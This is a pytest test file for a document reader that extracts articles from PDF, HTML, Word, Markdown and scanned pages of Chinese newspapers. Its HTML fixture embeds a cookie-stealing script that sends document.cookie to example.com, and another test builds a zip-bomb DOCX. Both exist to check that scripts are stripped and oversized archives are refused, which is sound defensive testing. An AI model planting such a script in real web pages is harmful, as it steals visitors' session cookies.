"""PDF, HTML, DOCX, Markdown and scans become articles as text dumps do."""

import io
import json
import re
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from rag import Index
from rag.errors import PageFormatError
from rag.pages import read_bytes
from rag.types import Page
from tests.setting import Box, docx_of, golden, pdf_of, scan_of

TITLES = [
    "织密“保障网”为职工幸福“加码”",
    "南京发布秦淮灯会最新提示",
    "扬州：全力开创产业工会工作崭新局面",
]


@pytest.fixture(scope="module")
def boxes() -> list[Box]:
    known = {item["title"]: item for item in golden()}
    return [Box.of(known[title]) for title in TITLES]


def told(page: Page) -> list[tuple[str, str, tuple[str, ...]]]:
    return [(article.title, article.subtitle, article.paragraphs) for article in page.articles]


def bare(text: str) -> str:
    return "".join(text.split())


@pytest.mark.parametrize("columns", [1, 2, 3, 4])
def test_a_pdf_gives_the_articles_that_its_columns_hold(boxes: list[Box], columns: int) -> None:
    """Headlines by their size, columns by their place, paragraphs by their indent."""
    (page,) = read_bytes(pdf_of(boxes, columns), "page.pdf")
    assert [(title, paragraphs) for title, _, paragraphs in told(page)] == [
        (box.title, box.paragraphs) for box in boxes
    ]
    assert [bare(article.subtitle) for article in page.articles] == [
        bare(box.subtitle) for box in boxes
    ]


def test_the_pdf_says_which_day_and_page_it_is(boxes: list[Box]) -> None:
    """The masthead's facts are the page's, and the masthead is no article."""
    (page,) = read_bytes(pdf_of(boxes, 3, masthead=True), "page.pdf")
    assert (page.newspaper, page.date, page.page_no) == ("江南日报", "2025-02-11", 3)
    assert [article.title for article in page.articles] == TITLES
    assert "江南日报" in "".join(page.rest)


def test_a_cut_off_pdf_is_refused_in_one_sentence(boxes: list[Box]) -> None:
    """What happened, where, and what to do; no traceback of the library."""
    data = pdf_of(boxes, 2)
    with pytest.raises(PageFormatError, match=r"^cut\.pdf 不是完好的 PDF"):
        read_bytes(data[: len(data) // 3], "cut.pdf")


def test_a_locked_pdf_asks_for_its_password_to_be_removed(boxes: list[Box]) -> None:
    """It is not called damaged: it is not."""
    with pytest.raises(PageFormatError, match="密码"):
        read_bytes(pdf_of(boxes, 2, password="secret"), "locked.pdf")


HTML = """<!DOCTYPE html><html><head><meta charset="{charset}"><title>要闻-江南日报</title>
<meta name="date" content="2025-02-11"><style>p {{ color: red }}</style></head><body>
<nav><a href="/">首页</a> <a href="/1">第1版</a></nav><h3>春节特稿</h3><h1>古城灯会今晚亮灯</h1><h2>持续到正月十八</h2>
<div id="content"><p>　　本报讯（记者 张三）一年一度的灯会<b>今晚</b>开幕。<br>　　市民须提前预约。</p>
<script>fetch("http://example.com/" + document.cookie)</script><p>活动持续到晚上十点。</p></div>
<footer>版权所有</footer></body></html>"""


@pytest.mark.parametrize("charset", ["utf-8", "gb18030"])
def test_an_html_edition_gives_its_article_and_keeps_menus_apart(charset: str) -> None:
    """Kicker and deck to the subtitle; scripts and styles are no text; nothing else is lost."""
    (page,) = read_bytes(HTML.format(charset=charset).encode(charset), "page.html")
    (article,) = page.articles
    assert (article.title, article.subtitle) == ("古城灯会今晚亮灯", "春节特稿\n持续到正月十八")
    assert article.paragraphs == (
        "本报讯（记者 张三）一年一度的灯会今晚开幕。",
        "市民须提前预约。",
        "活动持续到晚上十点。",
    )
    assert page.date == "2025-02-11"
    assert {"首页 第1版", "版权所有"} <= set(page.rest)
    assert "cookie" not in json.dumps(page.to_json())


def test_several_articles_of_an_html_page_stay_apart() -> None:
    """Headings of one rank open articles; the one above them is the page's."""
    parts = "".join(f"<h2>第{n}条新闻</h2><p>第{n}条的正文。</p>" for n in "一二三")
    (page,) = read_bytes(f"<html><body><h1>江南日报</h1>{parts}</body></html>".encode(), "p.html")
    assert [article.title for article in page.articles] == [
        "第一条新闻",
        "第二条新闻",
        "第三条新闻",
    ]
    assert page.rest == ("江南日报",)


def test_a_word_document_gives_its_articles(boxes: list[Box]) -> None:
    """Heading styles open articles."""
    (page,) = read_bytes(docx_of(boxes), "page.docx")
    assert told(page) == [(box.title, box.subtitle, box.paragraphs) for box in boxes]


def test_a_word_document_that_would_fill_the_memory_is_refused() -> None:
    """A small file can unpack to any size."""
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("word/document.xml", b" " * (257 * 2**20))
    with pytest.raises(PageFormatError, match="解压后超过"):
        read_bytes(data.getvalue(), "bomb.docx")


def harmed(docx: bytes, harm: Callable[[str, bytes], bytes]) -> bytes:
    """A Word document with its parts changed by name."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(docx)) as read,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed,
    ):
        for name in read.namelist():
            packed.writestr(name, harm(name, read.read(name)))
    return out.getvalue()


def test_a_word_document_whose_style_is_based_on_itself_is_read(boxes: list[Box]) -> None:
    """What a careless program writes is no endless loop."""

    def on_itself(name: str, part: bytes) -> bytes:
        if name != "word/styles.xml":
            return part
        text = part.decode("utf8")
        normal = re.search(r'<w:style [^>]*w:styleId="Normal"[^>]*>', text)
        assert normal is not None
        based = text[: normal.end()] + '<w:basedOn w:val="Normal"/>' + text[normal.end() :]
        return based.encode("utf8")

    (page,) = read_bytes(harmed(docx_of(boxes), on_itself), "page.docx")
    assert [bare(article.text) for article in page.articles] == [
        bare("".join(box.paragraphs)) for box in boxes
    ]


def test_a_word_document_with_flipped_bits_is_refused_in_one_sentence(boxes: list[Box]) -> None:
    """The file is named and the rest of a folder is read, whatever the archive says of its parts."""
    sound = harmed(docx_of(boxes), lambda _, part: part)
    with zipfile.ZipFile(io.BytesIO(sound)) as archive:
        info = archive.getinfo("word/document.xml")
    start = info.header_offset + 30 + len("word/document.xml")
    flipped = sound[: start + 20] + bytes(40) + sound[start + 60 :]
    locked = bytearray(sound)
    locked[info.header_offset + 6] |= 1
    listed = sound.rindex(b"PK\x01\x02", 0, sound.rindex(b"word/document.xml"))
    locked[listed + 8] |= 1
    for data in (flipped, bytes(locked)):
        with pytest.raises(PageFormatError, match=r"^page\.docx 不是完好的 DOCX"):
            read_bytes(data, "page.docx")


def test_a_markdown_file_gives_its_articles() -> None:
    """Marks of Markdown are no part of the text."""
    text = "# 江南日报\n\n## 第一条\n\n正文**重点**。\n\n第二段。\n\n## 第二条\n\n正文。\n"
    (page,) = read_bytes(text.encode(), "page.md")
    assert told(page) == [("第一条", "", ("正文重点。", "第二段。")), ("第二条", "", ("正文。",))]


def test_a_folder_mixes_formats_and_a_bad_file_stops_nothing(
    tmp_path: Path, boxes: list[Box]
) -> None:
    """The others are read, and the bad one is named."""
    pages = tmp_path / "pages"
    pages.mkdir()
    (pages / "a.pdf").write_bytes(pdf_of(boxes[:1], 2))
    (pages / "b.html").write_text(HTML.format(charset="utf-8"), "utf8")
    (pages / "c.docx").write_bytes(b"PK\x03\x04 no archive")
    (pages / "d.png").write_bytes(b"\x89PNG\r\n\x1a\n no image")
    with Index.open(tmp_path / "index") as index:
        report = index.update([pages])
        titles = {stored.article.title for stored in index.articles()}
    assert titles == {TITLES[0], "古城灯会今晚亮灯"}
    assert sorted(Path(source).name for source, _ in report.failed) == ["c.docx", "d.png"]


@pytest.mark.slow
def test_a_scan_gives_its_headlines_and_nearly_all_of_its_words(boxes: list[Box]) -> None:
    """The same page as an image, by offline recognition."""
    (page,) = read_bytes(scan_of(pdf_of(boxes, 3)), "page.png")
    assert [bare(article.title) for article in page.articles] == [bare(t) for t in TITLES]
    for article, box in zip(page.articles, boxes, strict=True):
        wanted = bare("".join(box.paragraphs))
        read = bare(article.text)
        pairs = {wanted[at : at + 4] for at in range(len(wanted) - 3)}
        assert sum(pair in read for pair in pairs) > 0.95 * len(pairs)


@pytest.mark.slow
def test_a_photo_without_text_says_so() -> None:
    """It is not taken for a page without articles."""
    from PIL import Image

    data = io.BytesIO()
    Image.new("RGB", (600, 400), (90, 140, 90)).save(data, "PNG")
    with pytest.raises(PageFormatError, match=r"^meadow\.png .*没有认出文字"):
        read_bytes(data.getvalue(), "meadow.png")
